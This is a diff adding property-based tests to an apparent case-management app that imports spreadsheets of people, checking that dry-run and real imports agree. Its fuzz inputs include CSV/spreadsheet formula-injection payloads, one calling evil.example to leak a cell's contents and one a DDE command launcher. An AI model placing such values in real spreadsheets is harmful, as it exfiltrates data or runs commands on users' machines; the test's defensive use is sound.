@@ -2,14 +2,23 @@
 
 from __future__ import annotations
 
+import datetime as dt
+import re
+from dataclasses import replace
 from pathlib import Path
 
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from sqlalchemy import select
 
+from caseworker.domain.errors import ValidationError
 from caseworker.services.api import Services
 from caseworker.services.intake import ImportRequest
+from caseworker.store.engine import Store
 from caseworker.store.models import Case, Person
 from tests.support import referrals
+from tests.support.stores import services_for
 
 HEADINGS = ("Name", "Current area", "Employer", "Place of birth", "Father's name", "Passport No.", "Phone")
 
@@ -85,3 +94,79 @@ def test_a_row_is_rejected_only_when_it_cannot_become_a_person(caseworker: Servi
     assert problems[(2, "Name")].startswith("is 32,000 characters long")
     assert problems[(3, "Name")].startswith("no usable name in any script")
     assert "its principal (row 3) was rejected" in problems[(4, "")]
+
+
+# -- any workbook: the dry run and the import agree, and the store never refuses a batch ------------------------
+
+SHAPE_HEADINGS = ("Ref", "Principal ref", "Full Name", "Name (Dari/Pashto)", "Father's name", "Sex", "DOB",
+                  "Place of birth", "Passport No.", "Tazkira", "Phone/WhatsApp", "Email", "Relationship",
+                  "Current area", "Employer", "Scheme", "Priority", "Post", "Comments")
+_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")  # openpyxl refuses them; the CSV readers are tested apart
+shape_texts = (st.text(max_size=30).map(lambda t: _ILLEGAL.sub("", t))
+               | st.sampled_from(["Ahmad Karimi", "فاطمه کریمی", "self", "wife", "son", "M", "female", "1369/05/12",
+                                  "31/02/1990", "c. 1980", "0701234567", "070 123 456", "+93 70 999 8888", "P01234567",
+                                  "1400-0101-12345", "ISB", "ZZZ", "ARAP", "urgent", "MP-001", "F1", "a@b", "12345",
+                                  '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+cmd|' /C calc'!A0",
+                                  "@SUM(1)", "-2+3", "\u200fاحمد\u200e"])
+               | st.integers(min_value=1, max_value=60).map(lambda n: "Ahmad " * n * 100))  # up to 36,000 characters
+shape_cells = (st.none() | shape_texts | st.integers(min_value=-(10**15), max_value=10**15)
+               | st.floats(allow_nan=False, allow_infinity=False) | st.booleans()
+               | st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(2100, 1, 1)).map(
+                   lambda m: m.replace(microsecond=0)))
+
+
+@st.composite
+def workbooks(draw: st.DrawFn) -> tuple[tuple[str, ...], list[list[object]]]:
+    columns = draw(st.lists(st.sampled_from(SHAPE_HEADINGS), min_size=1, max_size=10, unique=True))
+    if "Full Name" not in columns and "Name (Dari/Pashto)" not in columns:
+        columns.append("Full Name")
+    rows = draw(st.lists(st.lists(shape_cells, min_size=len(columns), max_size=len(columns)), min_size=1, max_size=12))
+    return tuple(columns), rows
+
+
+@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
+                                                                  HealthCheck.too_slow, HealthCheck.data_too_large])
+@given(book=workbooks())
+def test_any_workbook_the_dry_run_and_the_import_agree_and_the_store_takes_it(
+        sqlite_store: Store, tmp_path_factory: pytest.TempPathFactory,
+        book: tuple[tuple[str, ...], list[list[object]]]) -> None:
+    services = services_for(sqlite_store, "caseworker")
+    headings, rows = book
+    folder = tmp_path_factory.mktemp("shape")
+    listing = referrals.write_xlsx(folder / "any.xlsx", rows, headings, title=None)
+    request = ImportRequest(listing, source=f"Shapes {len(rows)}", mapping_json={"defaults": {"post": "ISB"}},
+                            rejects_path=folder / "rejects.xlsx")
+    try:
+        dry = services.intake.run_import(replace(request, dry_run=True))
+    except ValidationError as exc:  # a sheet that is no list of people (no name column found) is refused whole
+        assert exc.field in ("mapping", "file", None), exc
+        return
+    real = services.intake.run_import(request)  # no StatementError, IntegrityError, DataError …
+    assert [(r.row, r.outcome, r.warnings) for r in dry.results] == [(r.row, r.outcome, r.warnings)
+                                                                     for r in real.results]
+    assert (dry.created, dry.queued, dry.linked, dry.updated, dry.rejected, dry.unchanged, dry.cases_created) == (
+        real.created, real.queued, real.linked, real.updated, real.rejected, real.unchanged, real.cases_created)
+    assert dry.problems == real.problems and dry.warnings == real.warnings
+    for result in real.results:  # every warning names its row and column
+        assert all(w for w in result.warnings)
+    for warning in real.warnings:
+        assert warning.row >= 2 and warning.message
+    assert services.history.verify().ok
+
+
+def test_the_dry_run_runs_the_writing_and_leaves_nothing(caseworker: Services, tmp_path: Path,
+                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    from caseworker.services.intake import writer
+
+    listing = referrals.write_xlsx(tmp_path / "mp.xlsx")
+    before = caseworker.history.verify()
+    dry = caseworker.intake.run_import(ImportRequest(listing, source="MP", dry_run=True))
+    assert dry.created == 10 and dry.batch_id is None and caseworker.intake.sources() == []
+    assert caseworker.history.verify() == before  # the audit events it wrote were rolled back with the rest
+
+    def refused(self, creating):  # type: ignore[no-untyped-def]
+        raise RuntimeError("the store refused the people")
+
+    monkeypatch.setattr(writer.BatchWriter, "_new_people", refused)
+    with pytest.raises(RuntimeError, match="the store refused"):  # what would break the import breaks the dry run
+        caseworker.intake.run_import(ImportRequest(listing, source="MP", dry_run=True))
